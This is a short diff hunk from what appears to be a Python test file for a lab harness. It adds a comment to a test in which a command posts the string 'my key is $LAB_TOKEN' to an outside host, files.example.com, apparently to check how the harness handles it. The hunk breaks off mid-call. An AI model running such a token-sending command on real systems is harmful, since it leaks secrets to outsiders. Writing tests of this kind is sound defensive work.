@@ -63,6 +63,7 @@ def test_s01_placeholder_of_a_given_shape(weir):
     assert json.loads(reply)["authorized"] is True and shape in reply, r
 
 
+# Parity: weak-20.
 @pytest.mark.user
 def test_s05_lesson_38_passthrough_host(weir, lab):
     r = weir.sh(CODE % "-d \"my key is $LAB_TOKEN\" https://files.example.com/x",
